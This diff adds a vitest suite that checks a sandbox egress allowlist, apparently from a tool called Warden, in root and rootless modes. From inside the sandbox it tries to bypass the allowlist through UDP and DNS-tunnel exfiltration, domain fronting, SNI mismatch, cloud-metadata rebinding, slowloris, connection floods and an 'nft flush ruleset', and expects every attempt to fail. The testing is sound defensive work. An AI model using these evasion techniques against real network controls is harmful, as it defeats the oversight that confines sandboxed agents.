@@ -1,0 +1,391 @@
+// The egress test suite, run once per design (root: host nft + veth; rootless: user+net
+// namespace + in-namespace relay). Clients run under bwrap with all capabilities dropped,
+// inside the sandbox network, like an agent under `warden run`. Every bypass attempt is
+// checked twice: the client must fail AND the target server must have seen nothing.
+import dnsPacket from 'dns-packet';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { UnstampedEvent } from '../../../src/events/types.js';
+import type { PreparedNetwork } from '../../../src/sandbox/network-provider.js';
+import { formatIPv4, parseStrictIPv4 } from '../../../src/egress/ip.js';
+import { startInternet, suffix, type Internet } from './internet.js';
+import { curl, node, py, runIn } from './sbx.js';
+
+// The built module (the rootless relay must be compiled JS).
+const egress = (await import('../../../dist/egress/index.js')) as typeof import('../../../src/egress/index.js');
+
+export function egressSuite(mode: 'root' | 'rootless'): void {
+  let inet: Internet;
+  let net: PreparedNetwork;
+  let sbx: string[];
+  const events: UnstampedEvent[] = [];
+  const id = `t-${mode}-${suffix()}`;
+  const allow = [
+    'allowed.test',
+    'allowed.test:22',
+    'allowed.test:25',
+    'other.test',
+    '*.wild.test',
+    'rebind-lo.test',
+    'rebind-meta.test',
+    'rebind-private.test',
+  ];
+
+  beforeAll(async () => {
+    inet = await startInternet(
+      (a) => ({
+        'allowed.test': a[0]!,
+        'denied.test': a[1]!,
+        'other.test': a[2]!,
+        '*.wild.test': a[0]!,
+        'rebind-lo.test': '127.0.0.1',
+        'rebind-meta.test': '169.254.169.254',
+        'rebind-private.test': '10.1.2.3',
+      }),
+      ['allowed.test', 'denied.test', 'other.test', '*.wild.test'],
+    );
+    net = await egress.allowlistProvider({ headerTimeoutMs: 1500, maxConnections: 300, procLookup: true }).prepare({
+      sandboxId: id,
+      allow,
+      resolve: {},
+      upstreamDns: [inet.dns],
+      root: mode === 'root',
+      emit: (e) => events.push(e),
+    });
+    const bwrapArgs = Array.isArray(net.bwrapArgs) ? net.bwrapArgs : [];
+    sbx = [
+      ...net.commandPrefix,
+      'bwrap', '--ro-bind', '/', '/', '--dev', '/dev', '--proc', '/proc', '--tmpfs', '/tmp',
+      '--unshare-pid', '--unshare-ipc', '--die-with-parent', '--cap-drop', 'ALL',
+      ...bwrapArgs,
+      '--',
+    ];
+  });
+
+  afterAll(async () => {
+    await net?.cleanup();
+    await inet?.stop();
+  });
+
+  const denies = (reason: string) => events.filter((e) => e.kind === 'egress.deny' && e.data?.reason === reason);
+  const hitsOn = (i: number, srv?: string) => inet.hits(inet.addrs[i]!, srv);
+  const pathHits = (p: string) => inet.logs.filter((l) => l.path === p);
+
+  describe(`egress allowlist (${mode} mode): allowed traffic`, () => {
+    it('HTTP to an allowed name reaches its server', async () => {
+      const r = await curl(sbx, ['http://allowed.test/ok-http']);
+      expect(r.stderr).toBe('');
+      expect(r.stdout).toContain(`hello from http ${inet.addrs[0]} host=allowed.test`);
+      expect(pathHits('/ok-http')).toHaveLength(1);
+      const ev = events.find((e) => e.kind === 'egress.allow' && e.net?.dst_port === 80);
+      expect(ev).toMatchObject({ sandbox: { id }, net: { host: 'allowed.test', proto: 'tcp' }, data: { rule: 'allowed.test', protocol: 'http' } });
+    });
+
+    it('HTTPS to an allowed name: SNI checked, TLS end to end (no interception)', async () => {
+      const r = await curl(sbx, ['--cacert', inet.certFile, 'https://allowed.test/ok-https']);
+      expect(r.stderr).toBe('');
+      expect(r.stdout).toContain('sni=allowed.test');
+      expect(pathHits('/ok-https')[0]).toMatchObject({ sni: 'allowed.test', local: inet.addrs[0] });
+    });
+
+    it('a wildcard entry allows names under it', async () => {
+      const r = await curl(sbx, ['http://pkg.wild.test/ok-wild']);
+      expect(r.stdout).toContain('host=pkg.wild.test');
+    });
+
+    it('non-HTTP TCP by name and listed port (ssh-like, client speaks after banner)', async () => {
+      const r = await py(sbx, `
+import socket
+s = socket.create_connection(("allowed.test", 22), timeout=5)
+print(s.recv(100).decode().strip())
+s.sendall(b"ping-22\\n"); print(s.recv(100).decode().strip())`);
+      expect(r.stdout).toBe('SSH-2.0-TestServer\nping-22\n');
+    });
+
+    it('server-speaks-first protocols work (banner before any client byte)', async () => {
+      const r = await py(sbx, `
+import socket
+s = socket.create_connection(("allowed.test", 25), timeout=5)
+print(s.recv(100).decode().strip())`);
+      expect(r.stdout.trim()).toBe('220 smtp.test ESMTP');
+    });
+
+    it('the process behind a denied connection is named when it can be found', async () => {
+      await py(sbx, `
+import socket, time
+s = socket.create_connection(("allowed.test", 7), timeout=5)
+time.sleep(0.3)
+try: s.recv(10)
+except Exception: pass`);
+      const ev = denies('port-not-allowed').at(-1);
+      expect(ev?.net).toMatchObject({ host: 'allowed.test', dst_port: 7 });
+      expect(ev?.proc?.argv?.[0]).toMatch(/python/);
+    });
+  });
+
+  describe(`egress allowlist (${mode} mode): bypass attempts (each must fail)`, () => {
+    it('connecting by IP address, ignoring proxy settings', async () => {
+      const before = hitsOn(1).length + hitsOn(0).length;
+      const r1 = await curl(sbx, [`http://${inet.addrs[1]}/by-ip`]);
+      const r2 = await curl(sbx, [`http://${inet.addrs[0]}/by-ip`]); // even the allowed server's address
+      expect(r1.stdout).toMatch(/Warden egress denied/);
+      expect(r2.stdout).toMatch(/Warden egress denied/);
+      const raw = await py(sbx, `
+import socket
+try:
+  s = socket.create_connection(("${inet.addrs[1]}", 22), timeout=3); print(repr(s.recv(100)))
+except Exception as e: print("ERR", type(e).__name__)`);
+      expect(raw.stdout).not.toContain('SSH-2.0');
+      expect(hitsOn(1).length + hitsOn(0).length).toBe(before);
+      expect(denies('ip-literal').length).toBeGreaterThanOrEqual(3);
+    });
+
+    it('UDP DNS to another resolver is answered by Warden, never by that resolver', async () => {
+      const before = inet.logs.filter((l) => l.srv === 'dns').length;
+      const r = await runIn(sbx, ['dig', '+short', '+time=2', '+tries=1', `@${inet.dns}`, 'denied.test']);
+      expect(r.stdout.trim()).toBe('');
+      const r2 = await runIn(sbx, ['dig', '+short', '+time=2', '+tries=1', `@${inet.dns}`, 'allowed.test']);
+      expect(r2.stdout.trim()).toMatch(/^198\.1[89]\./); // our synthetic answer, not the real one
+      expect(inet.logs.filter((l) => l.srv === 'dns').length).toBe(before);
+    });
+
+    it('UDP to any other port goes nowhere', async () => {
+      await py(sbx, `
+import socket
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+for i in range(5):
+  try: s.sendto(b"exfil", ("${inet.addrs[1]}", 9999))
+  except Exception: pass
+  try: s.sendto(b"exfil", ("${inet.dns}", 5353))
+  except Exception: pass`);
+      await new Promise((r) => setTimeout(r, 300));
+      expect(inet.logs.filter((l) => l.srv === 'udp-sink')).toHaveLength(0);
+    });
+
+    it('DNS over TCP (to the upstream resolver or to Warden) fails', async () => {
+      const r1 = await runIn(sbx, ['dig', '+tcp', '+time=2', '+tries=1', `@${inet.dns}`, 'denied.test']);
+      expect(r1.stdout).not.toMatch(/ANSWER: [1-9]/);
+      expect(inet.logs.filter((l) => l.srv === 'dns-tcp')).toHaveLength(0);
+      const r2 = await runIn(sbx, ['dig', '+tcp', '+time=2', '+tries=1', 'allowed.test']);
+      expect(r2.stdout).not.toMatch(/ANSWER: [1-9]/);
+    });
+
+    it('a sandbox DNS query is never forwarded upstream', async () => {
+      const probe = `probe-${suffix()}.wild.test`;
+      const r = await runIn(sbx, ['dig', '+short', '+time=2', '+tries=1', probe]);
+      expect(r.stdout.trim()).toMatch(/^198\.1[89]\./);
+      await new Promise((res) => setTimeout(res, 200));
+      expect(inet.logs.some((l) => l.srv === 'dns' && l.name === probe)).toBe(false);
+    });
+
+    it('DNS exfiltration through a wildcard: a burst of fresh labels is refused and alerted', async () => {
+      const tag = suffix();
+      const r = await py(sbx, `
+import socket
+ok = 0
+for i in range(120):
+  try:
+    socket.getaddrinfo("x%d-${tag}-secretdata.wild.test" % i, 80, socket.AF_INET); ok += 1
+  except Exception: pass
+print(ok)`, 60_000);
+      const answered = Number(r.stdout.trim());
+      expect(answered).toBeLessThanOrEqual(40);
+      const alert = events.find((e) => e.kind === 'net.dns' && e.severity === 'alert');
+      expect(alert).toMatchObject({ rule: 'egress.dns_tunnel', category: 'exfiltration' });
+      // Only names the sandbox then connects to are ever resolved upstream; none were.
+      expect(inet.logs.filter((l) => l.srv === 'dns' && l.name?.includes(tag))).toHaveLength(0);
+    });
+
+    it('plain HTTP with a Host other than the resolved name (domain fronting) is refused', async () => {
+      const r = await curl(sbx, ['-H', 'Host: denied.test', 'http://allowed.test/front-1']);
+      expect(r.stdout).toContain('Warden egress denied');
+      const r2 = await curl(sbx, ['-H', 'Host: allowed.test', 'http://other.test/front-2']); // even between two allowed names
+      expect(r2.stdout).toContain('Warden egress denied');
+      expect(pathHits('/front-1')).toHaveLength(0);
+      expect(pathHits('/front-2')).toHaveLength(0);
+      expect(denies('host-mismatch').length).toBeGreaterThanOrEqual(2);
+    });
+
+    it('TLS with the SNI of a denied name to an allowed name\'s address is refused', async () => {
+      // curl resolves allowed.test (through Warden) but sends SNI and Host denied.test
+      const r = await curl(sbx, ['--cacert', inet.certFile, '--connect-to', 'denied.test:443:allowed.test:443', 'https://denied.test/sni-1']);
+      expect(r.code).not.toBe(0);
+      expect(r.stderr).toMatch(/alert|SSL|reset/i);
+      expect(pathHits('/sni-1')).toHaveLength(0);
+      expect(denies('sni-mismatch').at(-1)).toMatchObject({ data: { sni: 'denied.test' } });
+    });
+
+    it('TLS with the SNI of an allowed name and the Host of a denied one never reaches the denied server', async () => {
+      // The Host header travels inside TLS (no interception): it can only reach the server the
+      // name resolved to. The denied server must see nothing.
+      const before = hitsOn(1).length;
+      await curl(sbx, ['--cacert', inet.certFile, '-H', 'Host: denied.test', 'https://allowed.test/sni-2']);
+      expect(hitsOn(1).length).toBe(before);
+      expect(pathHits('/sni-2').every((l) => l.local === inet.addrs[0])).toBe(true);
+    });
+
+    it('CONNECT and absolute-form proxy requests to a denied host are refused', async () => {
+      const r1 = await curl(sbx, ['-p', '-x', 'http://allowed.test:80', 'http://denied.test/connect-1']);
+      expect(r1.code).not.toBe(0);
+      const r2 = await curl(sbx, ['-x', 'http://allowed.test:80', 'http://denied.test/connect-2']);
+      expect(r2.stdout).toContain('Warden egress denied');
+      expect(pathHits('/connect-1')).toHaveLength(0);
+      expect(pathHits('/connect-2')).toHaveLength(0);
+      expect(hitsOn(1)).toHaveLength(0);
+      expect(denies('connect-method').length).toBeGreaterThanOrEqual(1);
+    });
+
+    it('IPv6 literals fail closed', async () => {
+      const r1 = await curl(sbx, ['-g', 'http://[2001:db8::1]/v6'], 4);
+      expect(r1.code).not.toBe(0);
+      const r2 = await curl(sbx, ['-g', `http://[::ffff:${inet.addrs[1]}]/v6-mapped`], 4);
+      expect(r2.stdout).not.toContain('hello');
+      const r3 = await py(sbx, `
+import socket
+for a in ["2001:db8::1", "::1"]:
+  try: socket.create_connection((a, 80), timeout=2); print("connected", a)
+  except Exception as e: print("ERR", type(e).__name__)`);
+      expect(r3.stdout).not.toContain('connected 2001');
+      expect(pathHits('/v6-mapped')).toHaveLength(0);
+    });
+
+    it('0.0.0.0 and localhost tricks reach nothing outside the sandbox', async () => {
+      const denialsPort = new URL(net.endpoints!.denials!).port;
+      for (const u of [`http://0.0.0.0:${denialsPort}/denials`, `http://127.0.0.1:${denialsPort}/denials`, `http://localhost:${denialsPort}/denials`, 'http://0.0.0.0/', 'http://[::]/']) {
+        const r = await curl(sbx, ['-g', u], 3);
+        expect(r.stdout).not.toContain('"denials"');
+        expect(r.stdout).not.toContain('hello from');
+      }
+      // A name containing "localhost" or an allowed name is just a name: refused by DNS.
+      const r = await runIn(sbx, ['dig', '+short', '+time=2', '+tries=1', 'localhost.allowed.test']);
+      expect(r.stdout.trim()).toBe('');
+    });
+
+    it('decimal, octal and hex spellings of an address are still addresses', async () => {
+      const v = parseStrictIPv4(inet.addrs[1]!)!;
+      const b = formatIPv4(v).split('.').map(Number);
+      const spellings = [String(v), '0x' + v.toString(16), b.map((x) => '0' + x.toString(8)).join('.'), `${b[0]}.${(v & 0xffffff)}`, b.map((x) => '0x' + x.toString(16)).join('.')];
+      for (const s of spellings) {
+        const r = await curl(sbx, [`http://${s}/spelled`], 3);
+        expect(r.stdout).not.toContain('hello from');
+      }
+      expect(pathHits('/spelled')).toHaveLength(0);
+      const d = await runIn(sbx, ['dig', '+short', '+time=2', '+tries=1', String(v)]);
+      expect(d.stdout.trim()).toBe('');
+    });
+
+    it('names that resolve to loopback, metadata or private addresses are refused (DNS rebinding)', async () => {
+      for (const [n, cls] of [['rebind-lo.test', 'loopback'], ['rebind-meta.test', 'metadata'], ['rebind-private.test', 'private']] as const) {
+        const r = await curl(sbx, [`http://${n}/rebind`], 4);
+        expect(r.stdout).toContain('Warden egress denied');
+        expect(denies(`resolves-to-${cls}`).at(-1)?.net?.host).toBe(n);
+      }
+    });
+
+    it('a port not listed for an allowed name is refused', async () => {
+      const r = await py(sbx, `
+import socket
+s = socket.create_connection(("allowed.test", 7), timeout=3)
+s.sendall(b"echo?")
+try: print(repr(s.recv(100)))
+except Exception as e: print("ERR", type(e).__name__)`);
+      expect(r.stdout).not.toContain('echo?');
+      expect(hitsOn(0, 'echo')).toHaveLength(0);
+    });
+
+    it('ICMP goes nowhere', async () => {
+      const r = await runIn(sbx, ['ping', '-c', '1', '-W', '1', inet.addrs[1]!], 5000);
+      expect(r.code).not.toBe(0);
+    });
+
+    it('slowloris: a request head that never completes is cut off', async () => {
+      const r = await py(sbx, `
+import socket, time
+s = socket.create_connection(("allowed.test", 80), timeout=10)
+s.sendall(b"GET /slow HTTP/1.1\\r\\nHost: allowed.test\\r\\nX-Pad: ")
+sent = 0; closed = False; t0 = time.time()
+while time.time() - t0 < 8:
+  try:
+    s.sendall(b"a"); sent += 1
+    s.settimeout(0.2)
+    d = s.recv(200)
+    if d is not None: closed = True; print("reply", d[:12]); break
+  except socket.timeout: pass
+  except Exception as e: closed = True; print("closed", type(e).__name__); break
+print("sent", sent, "closed", closed)`, 20_000);
+      expect(r.stdout).toMatch(/closed True/);
+      expect(pathHits('/slow')).toHaveLength(0);
+      expect(denies('header-timeout').length).toBeGreaterThanOrEqual(1);
+    });
+
+    it('1,000 concurrent connections are bounded, and the proxy keeps serving', async () => {
+      // 1,000 idle connections at once: at most maxConnections (300) are held, the rest are
+      // refused at once; held ones are cut at the header timeout. Bounded by count and time.
+      const r = await node(sbx, `
+const net = require('net');
+const N = 1000; let settled = 0; const socks = [];
+const t = setTimeout(() => finish(false), 20000);
+function finish(all) { clearTimeout(t); console.log(JSON.stringify({ settled, all })); for (const s of socks) s.destroy(); process.exit(0); }
+require('dns').lookup('allowed.test', { family: 4 }, (err, addr) => {
+  if (err) { console.log('dns', err.message); process.exit(1); }
+  for (let i = 0; i < N; i++) {
+    const s = net.connect(80, addr);
+    socks.push(s);
+    let done = false;
+    s.on('error', () => {});
+    s.on('close', () => { if (!done) { done = true; if (++settled === N) finish(true); } });
+  }
+});`, 40_000);
+      const out = JSON.parse(r.stdout.trim().split('\n').at(-1)!) as { settled: number; all: boolean };
+      expect(out).toEqual({ settled: 1000, all: true });
+      const body = (await (await fetch(net.endpoints!.denials!)).json()) as { denials: Array<{ reason: string; count: number }> };
+      const refused = body.denials.filter((d) => d.reason === 'connection-limit').reduce((a, d) => a + d.count, 0);
+      expect(refused).toBeGreaterThanOrEqual(500);
+      expect(refused).toBeLessThanOrEqual(700);
+      // Still serving once the flood is gone.
+      const ok = await curl(sbx, ['http://allowed.test/after-flood']);
+      expect(ok.stdout).toContain('hello from http');
+    });
+
+    it('capabilities dropped: the sandbox cannot change the rules that confine it', async () => {
+      const r = await runIn(sbx, ['nft', 'flush', 'ruleset']);
+      expect(r.code).not.toBe(0);
+      const again = await curl(sbx, [`http://${inet.addrs[1]}/after-flush`], 3);
+      expect(again.stdout).not.toContain('hello from');
+    });
+  });
+
+  describe(`egress allowlist (${mode} mode): operations`, () => {
+    it('reloads the allowlist without a restart', async () => {
+      expect((await curl(sbx, ['http://denied.test/reload-1'])).stdout).not.toContain('hello');
+      net.updateAllow!([...allow, 'denied.test']);
+      const r = await curl(sbx, ['http://denied.test/reload-2']);
+      expect(r.stdout).toContain(`hello from http ${inet.addrs[1]}`);
+      net.updateAllow!(allow);
+      expect((await curl(sbx, ['http://denied.test/reload-3'])).stdout).not.toContain('hello');
+      expect(() => net.updateAllow!(['bad entry here'])).toThrow(/network.allow\[0\]/);
+      expect(events.filter((e) => e.kind === 'egress.reload')).toHaveLength(2);
+    });
+
+    it('serves /denials on the host loopback with the rule to add', async () => {
+      const res = await fetch(net.endpoints!.denials!);
+      const body = (await res.json()) as { denials: Array<{ host?: string; reason: string; suggest?: string }>; suggest: string[] };
+      expect(body.denials.some((d) => d.host === 'allowed.test' && d.reason === 'port-not-allowed' && d.suggest === 'allowed.test:7')).toBe(true);
+      expect(body.suggest).toContain('allowed.test:7');
+    });
+
+    it('every decision event carries the sandbox id and the destination', () => {
+      for (const e of events.filter((x) => x.kind === 'egress.allow' || x.kind === 'egress.deny')) {
+        expect(e.sandbox?.id).toBe(id);
+        expect(e.data?.reason).toBeTruthy();
+      }
+      for (const e of events.filter((x) => x.kind === 'net.dns')) expect(e.dns?.qtype).toBeTruthy();
+    });
+
+    it('DNS answers come with the synthetic address and respect the policy', async () => {
+      const r = await runIn(sbx, ['dig', '+time=2', '+tries=1', 'allowed.test', 'AAAA']);
+      expect(r.stdout).toMatch(/status: NOERROR/);
+      expect(r.stdout).toMatch(/ANSWER: 0/);
+      void dnsPacket;
+    });
+  });
+}
